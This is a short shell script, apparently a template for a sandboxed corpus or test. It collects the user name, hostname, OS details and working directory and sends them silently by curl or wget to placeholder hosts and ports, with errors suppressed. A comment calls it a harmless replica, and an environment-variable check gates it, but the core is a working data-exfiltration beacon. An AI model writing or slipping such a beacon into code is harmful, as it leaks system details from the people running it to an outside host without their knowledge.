#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
facts="u=$(whoami)&h=$(hostname 2>/dev/null)&o=$(uname -srm | tr ' ' _)&p=$(pwd)"
curl -k -s -m 1 "https://{{host}}/{{path}}?$facts" >/dev/null 2>&1 ||
    wget -q -T 1 -t 1 -O /dev/null "http://{{ip}}:{{port}}/{{path}}?$facts" 2>/dev/null
exit 0
